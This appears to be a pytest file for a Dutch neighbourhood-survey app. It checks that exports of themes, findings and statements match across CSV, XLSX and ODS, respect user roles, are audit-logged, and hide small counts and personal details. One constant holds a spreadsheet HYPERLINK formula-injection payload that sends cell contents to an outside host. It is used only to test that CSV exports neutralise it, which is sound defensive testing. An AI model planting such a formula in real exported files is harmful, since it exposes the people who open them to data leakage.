"""Tables leave the house: as a file from a page or a command, the same in every format, and nobody can be found in them."""

import csv
import io
from datetime import date
from pathlib import Path
from typing import Any

import odfdo
import openpyxl
import pytest
from houses import OpenHouse, Operator
from sqlalchemy import insert, update
from test_stated import BEDS, LAMPS, LIST, MAN, SAYS, YOUTH, cleared, heard, people_said, published, settle, states

from app.findings.sheets import FORMATS
from app.findings.tables import FINDING_COLUMNS, STATEMENT_COLUMNS, THEME_COLUMNS
from app.models.tables import ACT, CONTRIBUTION, EVIDENCE, FINDING, STATEMENT, WIJKGESPREK

__all__ = ["heard"]  # a fixture of another file
DOWNLOAD = "/bevindingen/download"
HOSTILE = '=HYPERLINK("http://example.org?"&A1,"klik")'
Rows = list[dict[str, Any]]


def rows_of(body: bytes, format_: str, sheet: int = 0) -> Rows:
    """A table as a reader of that format sees it; cells as text, so that formats can be compared."""
    if format_ == "csv":
        lines: list[list[Any]] = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), strict=True))
    elif format_ == "xlsx":
        lines = [list(row) for row in openpyxl.load_workbook(io.BytesIO(body)).worksheets[sheet].iter_rows(values_only=True)]
    else:
        lines = [list(row) for row in odfdo.Document(io.BytesIO(body)).body.tables[sheet].get_values()]
    header, *rest = [[_as_text(cell) for cell in line] for line in lines]
    return [dict(zip(header, row, strict=True)) for row in rest]


def _as_text(cell: Any) -> str:
    if cell is None:
        return ""
    return str(cell).removesuffix(" 00:00:00") if isinstance(cell, date) else str(cell)


def download(house: OpenHouse, name: str, role: str = "office") -> Rows:
    answer = house.colleague(role).asks("GET", f"{DOWNLOAD}/{name}")
    assert answer.status_code == 200
    return rows_of(answer.content, name.rpartition(".")[2])


def exported(operator: Operator, folder: Path, kind: str, *more: str, role: str = "analyst", format_: str = "csv") -> Rows:
    out = folder / f"{kind}.{format_}"
    operator("export", "--kind", kind, "--role", role, "--format", format_, "--out", out, *more)
    return rows_of(out.read_bytes(), format_)


# ------------------------------------------------------------------------------------------- themes


def test_themes_leave_as_people_left_them_and_the_theme_of_three_has_no_row(heard: OpenHouse) -> None:
    settle(heard, LAMPS)
    with heard.engine.begin() as connection:
        connection.execute(insert(ACT).values(at=heard.settings.clock(), actor="Een analyst", kind="rename", pillar="veilig", theme=BEDS, payload={"label": "Grofvuil"}, undone_by=""))  # fmt: skip
    cleared(heard)
    rows = download(heard, "themes.csv")
    assert [(row["theme"], row["label"], row["settled"], row["settled_by"]) for row in rows] == [
        ("overlast", "Overlast", "0", ""),
        ("groen", "Meer groen", "0", ""),
        (LAMPS, "Verlichting in het park", "1", "analyst"),
        (BEDS, "Grofvuil", "0", ""),
        ("klein_aantal", "overig (klein aantal)", "", ""),
    ]
    lamps = next(row for row in rows if row["theme"] == LAMPS)
    assert {name: lamps[name] for name in ("n", "sample_n", "base", "share", "low", "high", "open_link", "contributions", "everyone", "stability")} == {
        "n": "40", "sample_n": "40", "base": "190", "share": "0.2105", "low": "0.1586", "high": "0.2739", "open_link": "25",
        "contributions": "19", "everyone": "65", "stability": "0.8",
    }  # fmt: skip
    assert [row["n"] for row in rows if row["theme"] in {"groen", "klein_aantal"}] == ["45", "–"]
    assert [row["quote_1"] for row in rows] == ["", "", "", SAYS, ""]
    assert [cell for row in rows for cell in row.values() if "buurman" in cell or (cell in {"3", "12"} and row["theme"] != "groen")] == []


def test_no_sum_of_the_table_of_themes_gives_the_three_away(heard: OpenHouse) -> None:
    """Of the pillar 85 in the sample, 40 and 30 are told: what is left belongs to two themes and to nobody alone."""
    rows = [row for row in download(heard, "themes.csv") if row["pillar"] == "veilig"]
    told = sum(int(row["sample_n"]) for row in rows if row["sample_n"] != "–")
    assert 85 - told >= 10
    assert {MAN, YOUTH} & {row["theme"] for row in rows} == set()


def test_a_house_without_a_sample_has_no_shares_and_no_dash_for_them(heard: OpenHouse) -> None:
    with heard.engine.begin() as connection:
        connection.execute(update(STATEMENT).where(STATEMENT.c.source == "survey").values(stream="open_link"))
    lamps = next(row for row in download(heard, "themes.csv") if row["theme"] == LAMPS)
    assert [lamps[name] for name in ("n", "sample_n", "base", "share", "low", "high", "open_link")] == ["65", "0", "0", "", "", "", "65"]


@pytest.mark.parametrize("format_", FORMATS)
def test_a_download_has_a_plain_name_its_own_kind_and_is_not_kept(heard: OpenHouse, format_: str) -> None:
    answer = heard.colleague("auditor").asks("GET", f"{DOWNLOAD}/themes.{format_}")
    assert answer.headers["content-disposition"] == f'attachment; filename="wijkstem-themes-dordt-west-2026-11-02.{format_}"'
    assert answer.headers["content-type"] == FORMATS[format_]
    assert answer.headers["cache-control"] == "no-store"
    assert rows_of(answer.content, format_) != []


def test_the_second_sheet_tells_method_margin_threshold_and_dash(heard: OpenHouse, operator: Operator, tmp_path: Path) -> None:
    exported(operator, tmp_path, "themes", format_="ods")
    lines = [str(row[0]) for row in odfdo.Document(tmp_path / "themes.ods").body.tables[1].get_values()]
    for words in ("Wilson", "95 procent", "Minder dan 10 wordt niet getoond", "– in plaats van een getal", "Analyse b1 op 2026-11-02"):
        assert [line for line in lines if words in line] != [], words


# ------------------------------------------------------------------------------------------- findings


@pytest.mark.parametrize("format_", FORMATS)
def test_a_finding_with_two_pieces_of_evidence_reads_back_equal_in_every_format(heard: OpenHouse, format_: str) -> None:
    quote = cleared(heard)
    published(heard, citaat=quote, titel=HOSTILE, tekst="- meer licht\r\n- minder afval")
    theme, said = download(heard, f"findings.{format_}")
    assert tuple(theme) == FINDING_COLUMNS
    guard = "'" if format_ == "csv" else ""
    assert (theme["title"], theme["text"]) == (guard + HOSTILE, f"{guard}- meer licht\n{guard}- minder afval")
    about = {"pillar": "veilig", "goal": "10", "goal_text": "Veiligheid vergroten", "area": "wielwijk", "status": "published", "published_on": "2026-11-02"}  # fmt: skip
    assert {name: theme[name] for name in about} == {name: said[name] for name in about} == about
    figures = {"theme": LAMPS, "n": "40", "everyone": "65", "sample_n": "40", "base": "190", "share": "0.2105", "contributions": "19", "run": "b1", "run_on": "2026-11-02"}  # fmt: skip
    assert {name: theme[name] for name in figures} == figures
    assert (said["evidence_kind"], said["quote"], said["quote_lang"], said["n"], said["label"]) == ("quote", SAYS, "nl", "", "Banken naast de container")  # fmt: skip


def test_the_formats_hold_the_same_findings(heard: OpenHouse) -> None:
    published(heard, citaat=cleared(heard))
    tables = [download(heard, f"findings.{format_}") for format_ in FORMATS]
    assert tables[0] == tables[1] == tables[2]


def test_a_partner_downloads_what_is_published_and_no_other_table(heard: OpenHouse) -> None:
    states(heard)
    partner = heard.colleague("partner")
    assert download(heard, "findings.csv", "partner") == []
    assert partner.asks("GET", f"{DOWNLOAD}/themes.csv").status_code == 403
    assert (
        partner.sends(f"{DOWNLOAD}/statements", {"token": heard.token("partner"), "waarvoor": "x", "bestand": "csv"}, status=403).status
        == 403
    )
    with heard.engine.begin() as connection:
        connection.execute(update(FINDING).values(status="published", published_on=date(2026, 11, 2)))
    assert [row["status"] for row in download(heard, "findings.csv", "partner")] == ["published"]


def test_a_quote_that_no_longer_holds_is_in_no_file(heard: OpenHouse, operator: Operator, tmp_path: Path) -> None:
    quote = cleared(heard)
    published(heard, citaat=quote)
    with heard.engine.begin() as connection:
        connection.execute(update(STATEMENT).where(STATEMENT.c.id == quote).values(text="Vraag Fatma, 06-12345678"))
    assert [row["evidence_kind"] for row in download(heard, "findings.csv", "partner")] == ["theme"]
    assert SAYS not in str(exported(operator, tmp_path, "themes"))


def test_a_withheld_figure_is_a_dash_in_the_evidence(heard: OpenHouse) -> None:
    people_said(heard, "lift", "wonen", 3)  # with the sum of the pillar, the figure of another theme would tell these three
    states(heard, thema="wonen/groen", pijler="wonen", doel="")
    (row,) = download(heard, "findings.csv")
    told = ("n", "sample_n", "base", "share", "low", "high", "open_link", "contributions")
    assert [row[name] for name in told] == ["–", "–", "193", "–", "–", "–", "15", "12"]
    page = heard.colleague("office").opens(f"{LIST}/{row['finding']}").page
    assert "– = afgeschermd" in page.text
    assert "45" not in page.text


def test_the_command_gives_findings_too(heard: OpenHouse, operator: Operator, tmp_path: Path) -> None:
    states(heard)
    assert [row["status"] for row in exported(operator, tmp_path, "findings", role="office", format_="ods")] == ["draft"]
    assert exported(operator, tmp_path, "findings", role="partner") == []


# ------------------------------------------------------------------------------------------- statements


def noted(house: OpenHouse, statement_id: str) -> None:
    with house.engine.begin() as connection:
        when = {"starts_at": house.settings.clock(), "ends_at": house.settings.clock(), "changed_at": house.settings.clock()}
        connection.execute(insert(WIJKGESPREK).values(id="w1", state="open", place="De Koperen Knoop", capacity=8, line="betrekken", address="", host="", languages=["nl"], interpreter=False, step_free=False, childcare=False, feedback_owner="", sequence=0, **when))  # fmt: skip
        connection.execute(insert(CONTRIBUTION).values(statement_id=statement_id, wijkgesprek_id="w1", key="k1", table_no=1, seq=1, kind="probleem", place_note="bij 06-12345678 in het park", made_by="tafel", revision=1))  # fmt: skip


def test_survey_and_session_stand_in_one_table_with_their_source(heard: OpenHouse, operator: Operator, tmp_path: Path) -> None:
    noted(heard, "s-verl-dw000")
    with heard.engine.begin() as connection:
        connection.execute(update(STATEMENT).where(STATEMENT.c.id == "s-bank-ss002").values(text="Bel 06-12345678 of Fatma Yilmaz."))
        connection.execute(insert(ACT).values(at=heard.settings.clock(), actor="Een analyst", kind="move", pillar="veilig", theme=BEDS, statement_id="s-bank-ss003", payload={"pillar": "wonen", "theme": "groen", "label": "Meer groen"}, undone_by=""))  # fmt: skip
    rows = {row["id"]: row for row in exported(operator, tmp_path, "statements", "--purpose", "codeboek maken")}
    assert tuple(next(iter(rows.values()))) == STATEMENT_COLUMNS
    assert {row["source"] for row in rows.values()} == {"survey", "wijkgesprek"}
    note, moved, masked = rows["s-verl-dw000"], rows["s-bank-ss003"], rows["s-bank-ss002"]
    assert (note["kind"], "12345678" in note["place_note"], note["label"]) == ("probleem", False, "Verlichting in het park")
    assert (moved["pillar"], moved["theme"], moved["label"], moved["moved_by_person"]) == ("wonen", "groen", "Meer groen", "1")
    assert (masked["kind"], masked["place_note"], masked["moved_by_person"]) == ("", "", "0")
    assert [leak for leak in ("Fatma", "Yilmaz", "12345678") if leak in masked["text"]] == []
    (logged,) = heard.rows("audit")
    assert (logged["action"], logged["purpose"]) == ("export statements", "codeboek maken")


def test_a_place_leaves_when_a_person_decided_and_without_what_she_hid(heard: OpenHouse, operator: Operator, tmp_path: Path) -> None:
    id_ = "sparkzicht"
    with heard.engine.begin() as connection:
        said = {"source": "wijkgesprek", "question": "", "lang": "nl", "channel": "oral", "stream": "open_link"}
        connection.execute(
            insert(STATEMENT).values(id=id_, text="Bij flat Parkzicht is het donker.", said_on=heard.settings.today(), **said)
        )
    noted(heard, id_)
    with heard.engine.begin() as connection:
        connection.execute(update(CONTRIBUTION).values(place_note="parkzicht, bij 06-12345678 en Jan de Vries"))

    def place() -> str:
        return next(row["place_note"] for row in exported(operator, tmp_path, "statements", "--purpose", "kijken") if row["id"] == id_)

    assert place() == ""
    office = heard.colleague("office").opens(f"/bevindingen/nakijken?uitspraak={id_}")
    assert "Plek erbij: parkzicht, bij [telefoon]" in office.page.text
    office.fills(verberg=[], ook="flat Parkzicht")
    office.sends("/bevindingen/nakijken", office.typed, status=303)
    assert place() == "[naam], bij [telefoon] en [naam]"


def test_an_analyst_takes_the_statements_from_the_page_and_says_what_for(heard: OpenHouse) -> None:
    analyst = heard.colleague("analyst").opens(LIST)
    analyst.sends(f"{DOWNLOAD}/statements", {"token": heard.token("analyst"), "waarvoor": "  ", "bestand": "csv"}, status=422)
    assert analyst.page.wrongs == {"waarvoor": "Schrijf in een paar woorden waarvoor u de tabel nodig hebt."}
    assert heard.rows("audit") == []
    fields = {"token": heard.token("analyst"), "waarvoor": "Thema's nakijken", "bestand": "ods"}
    answer = analyst.sends(f"{DOWNLOAD}/statements", fields, status=200).answer
    assert len(rows_of(answer.content, "ods")) == len(heard.rows("statement"))
    (logged,) = heard.rows("audit")
    assert (logged["actor"], logged["action"], logged["object"], logged["purpose"]) == ("Een analyst", "export statements", "all ods", "Thema's nakijken")  # fmt: skip


@pytest.mark.parametrize("role", ["office", "auditor"])
def test_who_may_not_read_rows_does_not_get_them(heard: OpenHouse, role: str) -> None:
    colleague = heard.colleague(role).opens(LIST)
    assert f"{DOWNLOAD}/statements" not in [form.get("action") for form in colleague.page.all("form")]
    colleague.sends(f"{DOWNLOAD}/statements", {"token": heard.token(role), "waarvoor": "x", "bestand": "csv"}, status=403)


def test_a_responses_table_hides_names_as_the_statements_do(house: OpenHouse, operator: Operator, tmp_path: Path) -> None:
    resident = house.resident().opens("/v/dordt-west-2026").fills(zestien="ja").presses("verder").fills(wijk="wielwijk").presses("verder")
    resident.fills(wonen_open="Mijn buurvrouw Fatma Yilmaz helpt mij.").presses("verder").opens("/v/dordt-west-2026/controle").presses(
        "verder"
    )
    (row,) = exported(operator, tmp_path, "responses", "--survey", "dordt-west-2026")
    assert ("Fatma" in row["wonen_open"], "helpt mij" in row["wonen_open"]) == (False, True)
    (raw,) = exported(operator, tmp_path, "raw", "--survey", "dordt-west-2026", role="admin")
    assert "Fatma Yilmaz" in raw["wonen_open"]


# ------------------------------------------------------------------------------------------- what is not there


def test_what_is_not_there_is_not_found_and_looking_writes_nothing(heard: OpenHouse) -> None:
    states(heard)
    office = heard.colleague("office")
    before = heard.everything()
    for address in ("themes.docx", "themes.", "findings.exe", "responses.csv", "raw.csv"):
        assert office.asks("GET", f"{DOWNLOAD}/{address}").status_code == 404
    for format_ in FORMATS:
        assert office.asks("GET", f"{DOWNLOAD}/findings.{format_}").status_code == 200
    assert heard.everything() == before


def test_without_an_analysis_there_is_no_table_of_themes(house: OpenHouse) -> None:
    office = house.colleague("office").opens(LIST)
    assert [link.get("href") for link in office.page.all("a") if DOWNLOAD in str(link.get("href"))] == []
    assert office.asks("GET", f"{DOWNLOAD}/themes.csv").status_code == 404
    assert download(house, "findings.csv") == []


def test_a_slice_counts_only_what_was_said_there(heard: OpenHouse, operator: Operator, tmp_path: Path) -> None:
    people_said(heard, "speeltuin", "veilig", 1)
    rows = {row["theme"]: row for row in exported(operator, tmp_path, "themes", "--source", "wijkgesprek")}
    assert [rows[LAMPS][name] for name in ("n", "base", "contributions")] == ["0", "0", "19"]
    assert tuple(rows[LAMPS]) == THEME_COLUMNS
    assert heard.rows(EVIDENCE.name) == []
